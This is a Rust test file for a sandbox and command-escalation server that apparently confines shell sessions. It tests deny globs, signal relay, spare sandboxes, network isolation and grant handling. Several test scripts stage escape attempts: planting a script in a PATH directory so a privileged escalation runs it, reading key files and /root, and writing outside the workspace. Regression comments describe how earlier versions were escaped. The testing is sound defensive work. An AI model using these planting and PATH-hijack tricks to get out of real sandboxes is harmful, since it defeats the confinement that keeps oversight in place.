        network: NetworkPolicy::Restricted,
        network_lists: Default::default(),
    };
    let script = world.script(
        "cat a/hidden.txt; touch a/new; print a=$?; touch a/b/new; print b=$?
         cat {outside}/target.txt; print outside=$?; ls /root >/dev/null; print root=$?
         /bin/echo minimal-runs",
    );
    let (output, _) = run_sandboxed(policy_by_path(&[]), profile, &script, ws).await;
    assert!(!output.stderr.contains(SECRET) && !output.stdout.contains(SECRET));
    assert_eq!(
        output.stdout, "a=1\nb=0\noutside=1\nroot=2\nminimal-runs\n",
        "{}",
        output.stderr
    );
    assert!(ws.join("a/b/new").exists());
    assert!(!ws.join("a/new").exists());
}

/// Deny globs are expanded when the sandbox starts; a matching file
/// created afterwards is refused by the supervisor, which matches every
/// open against the globs (more cases in `confine.rs`).
#[tokio::test(flavor = "multi_thread")]
async fn a_deny_glob_file_created_after_launch_is_unreadable() {
    let world = World::new();
    let (output, _) = run_sandboxed(
        policy_by_path(&[]),
        world.profile(),
        &format!("print {SECRET} > later.env; cat later.env"),
        &world.ws,
    )
    .await;
    assert!(!output.stdout.contains(SECRET), "{}", output.stdout);
}

#[tokio::test(flavor = "multi_thread")]
async fn signals_reach_the_program_inside_a_sandboxed_escalation() {
    let world = World::new();
    let policy = policy_by_path(&[("/usr/bin/dash", Decision::Escalate(Execution::TurnDefault))]);
    // The program must see the signal itself (its trap runs), not just die
    // with the sandbox around it.
    let script = "sh -c 'trap \"echo got-int; exit 3\" INT; sleep 1000.75 & wait'; print status=$?";
    let output =
        interrupt_escalation(policy, world.profile(), &world.ws, script, "sleep 1000.75").await;
    assert_eq!(output.stdout, "got-int\nstatus=3\n", "{}", output.stderr);
    assert!(processes_named("sleep 1000.75").is_empty());
}

/// A sandbox with nothing for a supervisor to watch (read-only, the host's
/// network): its program is still not the pid namespace's init, which
/// would ignore every signal it has no handler for (`sleep` has none).
#[tokio::test(flavor = "multi_thread")]
async fn an_unsupervised_sandboxed_program_dies_of_a_signal_it_does_not_handle() {
    let world = World::new();
    let mut profile = PermissionProfile::preset("read-only").unwrap();
    let PermissionProfile::Managed { network, .. } = &mut profile else {
        unreachable!()
    };
    *network = NetworkPolicy::Enabled;
    let policy = policy_by_path(&[("/usr/bin/sleep", Decision::Escalate(Execution::TurnDefault))]);
    let script = "sleep 1000.5; print status=$?";
    let output =
        interrupt_escalation(policy, profile, &world.ws, script, "/usr/bin/sleep 1000.5").await;
    assert_eq!(output.stdout, "status=130\n", "{}", output.stderr);
}

/// Grants beyond the session's profile: writing `path`, nothing else.
pub(super) fn write_grant(path: &Path) -> PermissionProfile {
    grant(path, Access::Write)
}

fn grant(path: &Path, access: Access) -> PermissionProfile {
    let mut file_system = execgate_escalate_server::sandbox::FileSystemPolicy::default();
    file_system
        .push(parse_target(path.to_str().unwrap(), None).unwrap(), access)
        .unwrap();
    PermissionProfile::Managed {
        file_system,
        network: NetworkPolicy::Restricted,
        network_lists: Default::default(),
    }
}

/// An escalation that runs another program by name (`env`, a
/// `#!/usr/bin/env python3` script, a shim) with more than the sandbox may
/// do (unsandboxed, or with grants) must not find one the sandbox planted:
/// directories of the escalation `PATH` that the sandbox can write (a
/// project's `.venv/bin` put first in `PATH`, say) are left out of it. An
/// escalation into the session's own sandbox keeps them: what it finds
/// runs with no more than the sandbox has. (Regression: an escalation with
/// grants kept them, and ran what the sandbox planted with its grants.)
#[tokio::test(flavor = "multi_thread")]
async fn granted_escalations_find_nothing_the_sandbox_planted_in_path() {
    use execgate_escalate_server::sandbox::{Launcher, SandboxContext};
    use execgate_escalate_server::{SessionConfig, SessionSandbox};
    let world = World::new();
    let planted_bin = world.ws.join(".venv/bin");
    let grant = write_grant(&world.outside);
    let policy = policy_by_path(&[
        ("/usr/bin/env", Decision::Escalate(Execution::Unsandboxed)),
        ("/usr/bin/nice", Decision::Escalate(Execution::TurnDefault)),
        (
            "/usr/bin/timeout",
            Decision::Escalate(Execution::Permissions(grant)),
        ),
    ]);
    let mut config = SessionConfig::new(wrapper(), policy);
    let recorder = Recorder::default();
    config.events = Some(recorder.sink());
    // And a directory no sandbox but the granted one can write.
    let granted_bin = world.outside.join("bin");
    config.escalation_path = format!(
        "{}:{}:/usr/bin:/bin",
        planted_bin.display(),
        granted_bin.display()
    )
    .into();
    config.sandbox = Some(SessionSandbox {
        launcher: Launcher::new(sandbox_helper()).unwrap(),
        turn_default: world.profile(),
        context: SandboxContext::new(&world.ws),
    });
    let mut session = Session::start(config).unwrap();
    let pwned = world.outside.join("pwned");
    let pwned_later = world.home.join("pwned-later");
    // The granted escalation plants `tool2` where it may write, a directory
    // in the escalation `PATH`; the unsandboxed one after it must not find
    // it (regression, found in review: only what the session's own
    // sandbox can write was left out).
    let script = format!(
        "mkdir -p .venv/bin && printf '#!/bin/sh\\ntouch {pwned}\\necho planted\\n' \
         > .venv/bin/tool && chmod +x .venv/bin/tool && \
         env tool; print env=$?; nice tool; print nice=$?; timeout 10 tool; print timeout=$?; \
         timeout 10 /bin/sh -c 'mkdir -p {granted_bin} && \
         printf \"#!/bin/sh\\ntouch {pwned_later}\\n\" > {granted_bin}/tool2 && \
         chmod +x {granted_bin}/tool2'; env tool2; print env2=$?",
        pwned = pwned.display(),
        granted_bin = granted_bin.display(),
        pwned_later = pwned_later.display(),
    );
    let child = spawn_session_shell(&mut session, &script, &world.ws);
    let output = finish(child).await;
    session.shutdown().await;
    assert!(
        !pwned.exists(),
        "the planted program ran outside the sandbox or with the grants"
    );
    assert!(granted_bin.join("tool2").exists(), "{}", output.stderr);
    assert!(
        !pwned_later.exists(),
        "what a grant let the sandbox plant ran unsandboxed"
    );
    assert_eq!(
        output.stdout, "env=127\nplanted\nnice=0\ntimeout=127\nenv2=127\n",
        "{}",
        output.stderr
    );
    assert_eq!(recorder.started_pids().len(), 5, "all five were escalated");
}

/// Regression (found by an outside-in probe): an escalation decided
/// before a sandbox with grants started, and handed its descriptors after,
/// ran what that sandbox could have written since (a Makefile in the
/// granted directory), on checks made without knowing of the grant. It now
/// runs nothing, and says to run it again.
#[tokio::test(flavor = "multi_thread")]
async fn an_escalation_decided_before_a_grant_started_does_not_start_after_it() {
    use execgate_escalate_server::sandbox::{Launcher, SandboxContext};
    use execgate_escalate_server::{SessionConfig, SessionSandbox};
    use execgate_protocol::{
        decode_server, encode_client, read_frame, send_all, send_with_fds, ClientMessage,
        ExecRequest, ServerMessage, HELLO,
    };
    use nix::sys::socket::{socketpair, AddressFamily, SockFlag, SockType};
    use std::os::fd::{AsFd, OwnedFd};
    let world = World::new();
    let grant = write_grant(&world.outside);
    // Nothing more to write, but the whole network (a daemon on this
    // machine may write for it).
    let network = PermissionProfile::Managed {
        file_system: Default::default(),
        network: NetworkPolicy::Enabled,
        network_lists: Default::default(),
    };
    let policy = policy_by_path(&[
        ("/usr/bin/true", Decision::Escalate(Execution::Unsandboxed)),
        (
            "/usr/bin/env",
            Decision::Escalate(Execution::Permissions(grant)),
        ),
        (
            "/usr/bin/id",
            Decision::Escalate(Execution::Permissions(network)),
        ),
    ]);
    let mut config = SessionConfig::new(wrapper(), policy);
    config.sandbox = Some(SessionSandbox {
        launcher: Launcher::new(sandbox_helper()).unwrap(),
        turn_default: world.profile(),
        context: SandboxContext::new(&world.ws),
    });
    let session = Session::start(config).unwrap();
    let socket = session.shell_socket().unwrap();
    // The server checks the working directory against the requester's own:
    // this process's.
    let cwd = std::env::current_dir().unwrap();
    let ask = |path: &str| -> OwnedFd {
        let (mine, theirs) = socketpair(
            AddressFamily::Unix,
            SockType::Stream,
            None,
            SockFlag::SOCK_CLOEXEC,
        )
        .unwrap();
        let request = ClientMessage::Request(ExecRequest {
            path: path.into(),
            argv: vec![path.into()],
            cwd: cwd.clone(),
            env: vec!["PATH=/usr/bin:/bin".into()],
        });
        send_all(mine.as_fd(), &encode_client(&request).unwrap()).unwrap();
        send_with_fds(socket, HELLO, &[theirs.as_fd()]).unwrap();
        let reply = decode_server(&read_frame(mine.as_fd()).unwrap()).unwrap();
        assert!(
            matches!(reply, ServerMessage::Escalate),
            "{path}: {reply:?}"
        );
        mine
    };
    let hand_over = |private: &OwnedFd| -> ServerMessage {
        let null = fs::File::open("/dev/null").unwrap();
        let descriptors = encode_client(&ClientMessage::Descriptors(vec![0, 1, 2])).unwrap();
        let fds = [null.as_fd(), null.as_fd(), null.as_fd()];
        send_with_fds(private.as_fd(), &descriptors, &fds).unwrap();
        decode_server(&read_frame(private.as_fd()).unwrap()).unwrap()
    };
    // With no grant between its decision and its hand-over, it starts.
    let first = ask("/usr/bin/true");
    let started = hand_over(&first);
    assert!(
        matches!(started, ServerMessage::Started { .. }),
        "{started:?}"
    );
    // An escalation decided, then one with grants (whose sandbox is set
    // up before it is answered), then the first handed over: its answer,
    // and its socket, kept open until the end.
    let after_grant = |granted: &str| {
        let decided = ask("/usr/bin/true");
        drop(ask(granted));
        let answer = hand_over(&decided);
        (answer, decided)
    };
    let stale = |answer: ServerMessage, after: &str| match answer {
        ServerMessage::SpawnFailed { reason, .. } => {
            assert!(reason.contains("run it again"), "{reason}")
        }
        other => panic!("it started after the {after}: {other:?}"),
    };
    let (answer, decided) = after_grant("/usr/bin/env");
    stale(answer, "grant");
    // A grant that writes nothing the grants before it could not adds
    // nothing the decision did not know of: what was decided before it
    // starts (a probe's two runs of one skill's script, approved together,
    // both refused to start).
    let (started, decided_again) = after_grant("/usr/bin/env");
    assert!(
        matches!(started, ServerMessage::Started { .. }),
        "{started:?}"
    );
    // A review: a grant that reaches more than files (the network here,
    // a daemon's socket) makes what was decided before it stale too.
    let (answer, decided_before_network) = after_grant("/usr/bin/id");
    stale(answer, "network grant");
    drop((first, decided, decided_again, decided_before_network));
    session.shutdown().await;
}

/// Programs in a sandbox start with the signal dispositions a program
/// started outside one gets. The helper is a Rust program, whose start-up
/// ignores SIGPIPE, glibc's `posix_spawn` leaves its signals 32 and 33
/// ignored, and ignored signals survive execve: a producer piped into
/// `head` then reported a broken pipe instead of dying of it, and one that
/// ignores write errors would never end. (Only those three are checked:
/// what the test runner itself was started with, `nohup`'s SIGHUP say,
/// rightly passes through.)
#[tokio::test(flavor = "multi_thread")]
async fn sandboxed_programs_start_with_no_signal_ignored() {
    let world = World::new();
    let policy = policy_by_path(&[("/usr/bin/env", Decision::Escalate(Execution::TurnDefault))]);
    let script = "grep SigIgn /proc/self/status; env grep SigIgn /proc/self/status; \
                  seq 1 1000000 | head -1; env seq 1 1000000 | head -1";
    let (output, recorder) = run_sandboxed(policy, world.profile(), script, &world.ws).await;
    let masks: Vec<u64> = output
        .stdout
        .lines()
        .filter_map(|line| line.strip_prefix("SigIgn:\t"))
        .map(|mask| u64::from_str_radix(mask, 16).unwrap())
        .collect();
    assert_eq!(masks.len(), 2, "{}", output.stdout);
    // Signal n is bit n - 1.
    let ours = (1 << (13 - 1)) | (1 << (32 - 1)) | (1 << (33 - 1));
    for mask in masks {
        assert_eq!(mask & ours, 0, "ignored: {mask:#x}");
    }
    assert!(output.stdout.ends_with("1\n1\n"), "{}", output.stdout);
    assert_eq!(output.stderr, "");
    assert_eq!(recorder.started_pids().len(), 2, "the server started env");
}

/// Probe 227: a `turn-default` git, without the `GIT_EDITOR` the shell gave
/// it, started vi on a pipe, which drew on it and failed. A child in the
/// session's own sandbox keeps the shell's editors and pagers (what they
/// start runs in that sandbox), not its start-up variables.
#[tokio::test(flavor = "multi_thread")]
async fn a_turn_default_child_keeps_the_shells_editor_and_pager() {
    let world = World::new();
    let policy = policy_by_path(&[("/usr/bin/env", Decision::Escalate(Execution::TurnDefault))]);
    let script = "GIT_EDITOR=my-editor PAGER=my-pager BASH_ENV=/tmp/rc env \
                  | grep -E '^(GIT_EDITOR|PAGER|BASH_ENV)=' | sort";
    let (output, recorder) = run_sandboxed(policy, world.profile(), script, &world.ws).await;
    assert_eq!(
        output.stdout, "GIT_EDITOR=my-editor\nPAGER=my-pager\n",
        "{}",
        output.stderr
    );
    assert_eq!(recorder.started_pids().len(), 1, "the server started env");
}

/// Runs `script` in a sandboxed session and, once a process runs
/// `cmdline`, sends SIGINT to the wrapper of its first escalation.
async fn interrupt_escalation(
    policy: Arc<dyn execgate_escalate_server::Policy>,
    profile: PermissionProfile,
    ws: &Path,
    script: &str,
    cmdline: &str,
) -> ShellOutput {
    let (mut session, recorder) = start_sandboxed_session(policy, profile, ws);
    let mut child = spawn_session_shell(&mut session, script, ws);
    recorder.wait_for_started_by(1, &mut child).await;
    // Up to 10 s: a loaded machine starts a sandbox slowly.
    for _ in 0..500 {
        if !processes_named(cmdline).is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(
        !processes_named(cmdline).is_empty(),
        "the program never ran"
    );
    let wrapper_pid = recorder.decided()[0].peer.pid;
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(wrapper_pid),
        nix::sys::signal::Signal::SIGINT,
    )
    .unwrap();
    let output = finish(child).await;
    session.shutdown().await;
    output
}

/// Ctrl-Z stops an escalation as it stops the stand-in, and `fg`
/// (`SIGCONT`) continues it. A sandboxed one's sandbox, and an unsandboxed
/// one, lead a session of their own, so the program's process group is
/// orphaned, and the kernel drops a `SIGTSTP` sent there. (Regression: the
/// job showed as suspended while the program ran on.)
#[tokio::test(flavor = "multi_thread")]
async fn a_stopped_stand_in_stops_its_escalation() {
    use nix::sys::signal::{kill, Signal};
    use nix::unistd::Pid;
    for (execution, duration) in [
        (Execution::TurnDefault, "1000.25"),
        (Execution::Unsandboxed, "1000.3125"),
    ] {
        let world = World::new();
        let policy = policy_by_path(&[("/usr/bin/sleep", Decision::Escalate(execution.clone()))]);
        let (mut session, recorder) = start_sandboxed_session(policy, world.profile(), &world.ws);
        let script = format!("sleep {duration}; print status=$?");
        let mut child = spawn_session_shell(&mut session, &script, &world.ws);
        recorder.wait_for_started_by(1, &mut child).await;
        let running = format!("/usr/bin/sleep {duration}");
        let program = wait_for_state(&running, |state| state != 'T').await;
        let stand_in = Pid::from_raw(recorder.decided()[0].peer.pid);
        kill(stand_in, Signal::SIGTSTP).unwrap();
        wait_for_state(&running, |state| state == 'T').await;
        assert_eq!(process_state(stand_in.as_raw()), Some('T'), "{execution:?}");
        kill(stand_in, Signal::SIGCONT).unwrap();
        wait_for_state(&running, |state| state != 'T').await;
        kill(stand_in, Signal::SIGINT).unwrap();
        let output = finish(child).await;
        session.shutdown().await;
        assert_eq!(
            output.stdout, "status=130\n",
            "{execution:?}: {}",
            output.stderr
        );
        assert!(!process_exists(program), "{execution:?}");
    }
}

/// A program in a sandboxed escalation that stops itself (nano and mutt
/// suspend with `SIGSTOP`) stays stopped until its stand-in continues it:
/// the sandbox's init continues only a shell sandbox's stopped target.
/// (Regression of that: a review saw the escalation continued 18 ms
/// after it stopped itself.)
#[tokio::test(flavor = "multi_thread")]
async fn a_sandboxed_escalation_that_stops_itself_stays_stopped() {
    use nix::sys::signal::{kill, Signal};
    use nix::unistd::Pid;
    let world = World::new();
    let policy = policy_by_path(&[("/usr/bin/dash", Decision::Escalate(Execution::TurnDefault))]);
    let (mut session, recorder) = start_sandboxed_session(policy, world.profile(), &world.ws);
    let script = "dash -c 'kill -STOP $$; echo continued > continued.txt'; print status=$?";
    let mut child = spawn_session_shell(&mut session, script, &world.ws);
    recorder.wait_for_started_by(1, &mut child).await;
    let dash = "/usr/bin/dash -c kill -STOP $$; echo continued > continued.txt";
    wait_for_state(dash, |state| state == 'T').await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(
        processes_named(dash)
            .first()
            .and_then(|pid| process_state(*pid)),
        Some('T')
    );
    assert!(!world.ws.join("continued.txt").exists());
    let stand_in = Pid::from_raw(recorder.decided()[0].peer.pid);
    kill(stand_in, Signal::SIGCONT).unwrap();
    let output = finish(child).await;
    session.shutdown().await;
    assert_eq!(output.stdout, "status=0\n", "{}", output.stderr);
    assert!(world.ws.join("continued.txt").exists());
}

/// A sandboxed escalation that handles `SIGTSTP` gets it before it is
/// stopped (vim, less: they restore the terminal first), and runs on after
/// `SIGCONT`. (Regression of the fix above: it was stopped with `SIGSTOP`
/// alone, and its handler never ran.)
#[tokio::test(flavor = "multi_thread")]
async fn a_sandboxed_escalation_handles_sigtstp_before_it_stops() {
    use nix::sys::signal::{kill, Signal};
    use nix::unistd::Pid;
    let world = World::new();
    let policy = policy_by_path(&[("/usr/bin/dash", Decision::Escalate(Execution::TurnDefault))]);
    let (mut session, recorder) = start_sandboxed_session(policy, world.profile(), &world.ws);
    let script = "dash -c 'trap \"echo got-tstp > tstp.txt\" TSTP; \
        /usr/bin/sleep 1000.375 & wait; wait'; print status=$?";
    let mut child = spawn_session_shell(&mut session, script, &world.ws);
    recorder.wait_for_started_by(1, &mut child).await;
    wait_for_state("/usr/bin/sleep 1000.375", |state| state != 'T').await;
    let stand_in = Pid::from_raw(recorder.decided()[0].peer.pid);
    kill(stand_in, Signal::SIGTSTP).unwrap();
    wait_for_state("/usr/bin/sleep 1000.375", |state| state == 'T').await;
    kill(stand_in, Signal::SIGCONT).unwrap();
    wait_for_state("/usr/bin/sleep 1000.375", |state| state != 'T').await;
    let handled = world.ws.join("tstp.txt");
    for _ in 0..500 {
        if handled.exists() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(
        fs::read_to_string(&handled).unwrap_or_default(),
        "got-tstp\n"
    );
    kill(stand_in, Signal::SIGINT).unwrap();
    let output = finish(child).await;
    session.shutdown().await;
    assert!(output.stdout.starts_with("status="), "{}", output.stderr);
}

/// The state letter of `pid` (`R`, `S`, `T`...), while it exists.
fn process_state(pid: i32) -> Option<char> {
    stat_fields(pid)?[0].chars().next()
}

/// Waits up to 10 s for the one process running `cmdline` to be in a state
/// `wanted` accepts; returns its pid.
async fn wait_for_state(cmdline: &str, wanted: impl Fn(char) -> bool) -> i32 {
    for _ in 0..500 {
        if let [pid] = processes_named(cmdline)[..] {
            if process_state(pid).is_some_and(&wanted) {
                return pid;
            }
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    panic!(
        "{cmdline}: not in the state awaited: {:?}",
        processes_named(cmdline)
    );
}

/// Pids whose command line, spaces for NULs, is `cmdline`.
pub(super) fn processes_named(cmdline: &str) -> Vec<i32> {
    fs::read_dir("/proc")
        .unwrap()
        .filter_map(|entry| {
            let entry = entry.ok()?;
            let pid: i32 = entry.file_name().to_str()?.parse().ok()?;
            let text = fs::read(entry.path().join("cmdline")).ok()?;
            let text = String::from_utf8_lossy(&text).replace('\0', " ");
            (text.trim_end() == cmdline).then_some(pid)
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn absolute_deny_globs_outside_writable_roots_are_covered() {
    let world = World::new();
    fs::create_dir_all(world.outside.join("keys")).unwrap();
    fs::write(world.outside.join("keys/id.key"), "secret").unwrap();
    fs::write(world.outside.join("keys/public.txt"), "public").unwrap();
    let mut profile = world.profile();
    let PermissionProfile::Managed { file_system, .. } = &mut profile else {
        unreachable!()
    };
    let glob = format!("{}/**/*.key", world.outside.display());
    file_system
        .push(parse_target(&glob, None).unwrap(), Access::None)
        .unwrap();
    let script = world.script(
        "cat {outside}/keys/id.key; print key=$?; cat {outside}/keys/public.txt; print; print public=$?",
    );
    let (output, _) = run_sandboxed(policy_by_path(&[]), profile, &script, &world.ws).await;
    assert_eq!(
        output.stdout, "key=1\npublic\npublic=0\n",
        "{}",
        output.stderr
    );
}

/// bubblewrap's `--die-with-parent` watches the thread that started it. A
/// child started on one of tokio's blocking threads was killed when that
/// thread ended, ten idle seconds later (status 137).
#[tokio::test(flavor = "multi_thread")]
async fn a_sandboxed_escalation_outlives_the_thread_that_started_it() {
    let world = World::new();
    let policy = policy_by_path(&[("/usr/bin/dash", Decision::Escalate(Execution::TurnDefault))]);
    let script = world.script("dash -c 'sleep 12; echo survived'; print status=$?");
    let (output, _) = run_sandboxed(policy, world.profile(), &script, &world.ws).await;
    assert_eq!(output.stdout, "survived\nstatus=0\n", "{}", output.stderr);
}

/// Spare sandboxes whose command line names `dir`: their bubblewrap
/// process, the server's child (its own child, the helper, names `dir`
/// too).
fn spares_for(dir: &Path) -> Vec<i32> {
    let dir = dir.to_str().unwrap();
    let bwraps: Vec<i32> = fs::read_dir("/proc")
        .unwrap()
        .filter_map(|entry| entry.ok()?.file_name().to_str()?.parse::<i32>().ok())
        .filter(|pid| {
            let Ok(cmdline) = fs::read(format!("/proc/{pid}/cmdline")) else {
                return false;
            };
            let args: Vec<&[u8]> = cmdline.split(|&b| b == 0).collect();
            args.first().is_some_and(|arg0| arg0.ends_with(b"bwrap"))
                && args.contains(&&b"--spare"[..])
                && args.contains(&dir.as_bytes())
        })
        .collect();
    let server = std::process::id() as i32;
    bwraps
        .into_iter()
        .filter(|pid| parent_of(*pid) == Some(server))
        .collect()
}

/// The parent of process `pid`, while it exists.
fn parent_of(pid: i32) -> Option<i32> {
    stat_fields(pid)?.get(1)?.parse().ok()
}

/// Whether each spare sandbox whose command line names `dir` runs its
/// helper (its view made: bubblewrap mounts before it executes the helper):
/// a process not bubblewrap below the spare's bubblewrap.
fn spares_ready(dir: &Path, escalations: &[i32]) -> bool {
    let mut spares = spares_for(dir);
    spares.retain(|pid| !escalations.contains(pid));
    let processes: Vec<i32> = fs::read_dir("/proc")
        .unwrap()
        .filter_map(|entry| entry.ok()?.file_name().to_str()?.parse::<i32>().ok())
        .collect();
    let runs_helper = |pid: i32| {
        fs::read(format!("/proc/{pid}/cmdline")).is_ok_and(|cmdline| {
            !cmdline
                .split(|&b| b == 0)
                .next()
                .unwrap()
                .ends_with(b"bwrap")
        })
    };
    let below = |pid: i32, spare: i32| {
        std::iter::successors(parent_of(pid), |&up| parent_of(up))
            .take(4)
            .any(|up| up == spare)
    };
    spares.len() == 2
        && spares.iter().all(|&spare| {
            processes
                .iter()
                .any(|&pid| below(pid, spare) && runs_helper(pid))
        })
}

/// The session's kept spares under `dir` once both have started
/// ([`spares_for`]), or what there is after 10 s. `escalations` are the
/// sandboxes of escalations already started: a session's first `TurnDefault`
/// escalation runs in a sandbox started as a spare is, and while it runs it
/// looks like one.
async fn both_spares(dir: &Path, escalations: &[i32]) -> Vec<i32> {
    let mut spares = Vec::new();
    for _ in 0..1000 {
        spares = spares_for(dir);
        spares.retain(|pid| !escalations.contains(pid));
        if spares.len() == 2 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    spares
}

/// After a session's first `TurnDefault` escalation, the next ones run in
/// sandboxes started ahead of them (spares), with their own working
/// directory (and `PWD`, as bubblewrap's `--chdir` sets it), arguments,
/// environment, descriptors and exit status; no spare outlives the
/// session, and each is reaped.
#[tokio::test(flavor = "multi_thread")]
async fn spare_sandboxes_run_turn_default_escalations_as_fresh_ones_do() {
    let world = World::new();
    fs::create_dir(world.ws.join("spare-cwd")).unwrap();
    let policy = policy_by_path(&[
        ("/usr/bin/dash", Decision::Escalate(Execution::TurnDefault)),
        ("/usr/bin/env", Decision::Escalate(Execution::TurnDefault)),
    ]);
    let (mut session, recorder) = start_sandboxed_session(policy, world.profile(), &world.ws);
    let script = "dash -c 'echo first'; sleep 1; \
        (cd spare-cwd && dash -c pwd); \
        (cd spare-cwd && PWD=/bogus env | grep '^PWD='); \
        GREETING=hi dash -c 'echo $GREETING'; \
        dash -c 'echo to-three >&3' 3>three.txt; cat three.txt; \
        echo from-stdin | dash -c 'read line; echo $line'; \
        dash -c 'echo \"$0\" \"$1\"; exit 7' a b; print status=$?; \
        dash -c 'touch {outside}/escaped'; print outside=$?; \
        dash -c 'sleep 2'";
    let mut shell = spawn_session_shell(&mut session, &world.script(script), &world.ws);
    let pids = recorder.wait_for_started_by(9, &mut shell).await;
    let last = fs::read(format!("/proc/{}/cmdline", pids[8])).unwrap_or_default();
    assert!(
        last.split(|&b| b == 0).any(|arg| arg == b"--spare"),
        "the last escalation ran in a spare: {:?}",
        String::from_utf8_lossy(&last)
    );
    let output = finish(shell).await;
    let cwd = world.ws.join("spare-cwd");
    assert_eq!(
        output.stdout,
        format!(
            "first\n{0}\nPWD={0}\nhi\nto-three\nfrom-stdin\na b\nstatus=7\noutside=1\n",
            cwd.display()
        ),
        "{}",
        output.stderr
    );
    assert!(!world.outside.join("escaped").exists());
    let spares = spares_for(&world.ws);
    assert_eq!(spares.len(), 2, "the session keeps two spares");
    session.shutdown().await;
    assert_eq!(spares_for(&world.ws), Vec::<i32>::new(), "none outlives it");
    for pid in spares {
        assert!(
            !Path::new(&format!("/proc/{pid}")).exists(),
            "spare {pid} was reaped"
        );
    }
}

/// Probe 109: a session's spares, killed by its `cancel()`, stayed
/// zombies until the session was dropped, which a holder can put off for
/// as long as it likes. They are reaped at the cancel.
#[tokio::test(flavor = "multi_thread")]
async fn a_cancelled_sessions_spares_are_reaped_before_its_drop() {
    let world = World::new();
    let policy = policy_by_path(&[("/usr/bin/dash", Decision::Escalate(Execution::TurnDefault))]);
    let (mut session, _recorder) = start_sandboxed_session(policy, world.profile(), &world.ws);
    let shell = spawn_session_shell(&mut session, "dash -c true", &world.ws);
    let output = finish(shell).await;
    assert!(output.status.success(), "{}", output.stderr);
    let spares = both_spares(&world.ws, &[]).await;
    assert_eq!(spares.len(), 2, "the session started its spares");
    session.cancel();
    let reaped = |pid: &i32| !Path::new(&format!("/proc/{pid}")).exists();
    for _ in 0..500 {
        if spares.iter().all(reaped) {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    let left: Vec<&i32> = spares.iter().filter(|pid| !reaped(pid)).collect();
    assert!(left.is_empty(), "spares {left:?} were not reaped");
    drop(session);
}

/// As for an unsandboxed escalation (`spine.rs`): the reader of a pipe a
/// sandboxed escalation in a spare closes sees its end then.
#[tokio::test(flavor = "multi_thread")]
async fn a_pipe_an_escalation_in_a_spare_closes_ends_for_its_reader() {
    let world = World::new();
    let policy = policy_by_path(&[("/usr/bin/dash", Decision::Escalate(Execution::TurnDefault))]);
    let (mut session, recorder) = start_sandboxed_session(policy, world.profile(), &world.ws);
    let go = world.ws.join("go");
    nix::unistd::mkfifo(&go, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let script = format!(
        "dash -c true; read -r _ < go; {}; cat result",
        pipe_closed_early("dash")
    );
    let mut shell = spawn_session_shell(&mut session, &script, &world.ws);
    let first = recorder.wait_for_started_by(1, &mut shell).await;
    // Both spares started: the escalation takes one (waiting for it to be
    // ready), not a sandbox of its own.
    assert_eq!(
        both_spares(&world.ws, &first).await.len(),
        2,
        "the session started its spares"
    );
    tokio::task::spawn_blocking(move || fs::write(go, "go\n").unwrap())
        .await
        .unwrap();
    let output = finish(shell).await;
    session.shutdown().await;
    assert_eq!(output.stdout, "seen\n", "{}", output.stderr);
}

/// The same for escalations no kept spare serves: a session's first
/// `TurnDefault` one, and one with extra permissions. Their sandboxes too
/// are started before they get the command's descriptors, so bubblewrap,
/// which keeps the streams it started with, never holds the pipe.
#[tokio::test(flavor = "multi_thread")]
async fn a_pipe_an_escalation_in_a_sandbox_of_its_own_closes_ends_for_its_reader() {
    let world = World::new();
    let extra = PermissionProfile::Managed {
        file_system: Default::default(),
        network: NetworkPolicy::Restricted,
        network_lists: Default::default(),
    };
    let policy = policy_by_path(&[
        ("/usr/bin/dash", Decision::Escalate(Execution::TurnDefault)),
        (
            "/usr/bin/bash",
            Decision::Escalate(Execution::Permissions(extra)),
        ),
    ]);
    let script = format!(
        "{}; cat result; rm -f eof result; {}; cat result",
        pipe_closed_early("dash"),
        pipe_closed_early("bash")
    );
    let (output, recorder) = run_sandboxed(policy, world.profile(), &script, &world.ws).await;
    assert_eq!(output.stdout, "seen\nseen\n", "{}", output.stderr);
    assert_eq!(recorder.started_pids().len(), 2, "both were escalated");
}

/// A `restricted` session's spares start in one empty network namespace
/// the server made for them (it may: the tests run as root, on a kernel
/// with Landlock's scopes), not in one bubblewrap makes for each; never
/// the host's.
#[tokio::test(flavor = "multi_thread")]
async fn restricted_spares_share_an_empty_network_namespace_of_their_own() {
    let world = World::new();
    let policy = policy_by_path(&[("/usr/bin/dash", Decision::Escalate(Execution::TurnDefault))]);
    let (mut session, recorder) = start_sandboxed_session(policy, world.profile(), &world.ws);
    let script = "dash -c 'echo first'; sleep 1; \
        dash -c 'readlink /proc/self/ns/net; cat /proc/self/net/dev | tail -n +3'; \
        dash -c 'readlink /proc/self/ns/net'";
    let shell = spawn_session_shell(&mut session, script, &world.ws);
    let output = finish(shell).await;
    recorder.wait_for_started(3).await;
    session.shutdown().await;
    let lines: Vec<&str> = output.stdout.lines().collect();
    let host = fs::read_link("/proc/self/ns/net").unwrap();
    let host = host.to_str().unwrap();
    assert_eq!(lines.len(), 4, "{output:?}");
    assert_eq!(lines[0], "first");
    assert!(lines[1].starts_with("net:["), "{output:?}");
    assert_ne!(lines[1], host, "a spare's network is not the host's");
    assert!(
        lines[2].trim_start().starts_with("lo:"),
        "only a loopback: {output:?}"
    );
    // Each sandbox bubblewrap starts has a namespace of its own: the
    // same one twice means both ran in spares.
    assert_eq!(lines[3], lines[1], "the spares share one namespace");
}

/// Probe 182: a relayed signal reached the sandbox init's process group
/// only, so a program that moved to a group of its own (`timeout`) never
/// got it, and `kill` from the shell, or Ctrl-C, left it running.
#[tokio::test(flavor = "multi_thread")]
async fn a_relayed_signal_reaches_a_sandboxed_program_in_a_group_of_its_own() {
    let world = World::new();
    let policy = policy_by_path(&[(
        "/usr/bin/timeout",
        Decision::Escalate(Execution::TurnDefault),
    )]);
    let (mut session, recorder) = start_sandboxed_session(policy, world.profile(), &world.ws);
    let go = world.ws.join("go");
    nix::unistd::mkfifo(&go, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
